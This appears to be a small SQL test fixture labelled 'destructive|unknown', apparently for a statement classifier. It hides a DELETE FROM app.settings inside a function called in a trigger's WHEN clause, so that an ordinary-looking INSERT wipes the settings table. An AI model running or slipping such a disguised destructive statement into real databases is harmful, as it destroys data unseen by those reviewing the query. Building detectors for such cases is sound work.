-- class: destructive|unknown
-- the WHEN of a trigger calls
CREATE FUNCTION app.calm(int) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN DELETE FROM app.settings; RETURN true; END $$;
CREATE TRIGGER t BEFORE INSERT ON public.empty_table FOR EACH ROW WHEN (app.calm(NEW.id)) EXECUTE FUNCTION app.spare_trigger_fn();
INSERT INTO public.empty_table VALUES (5);
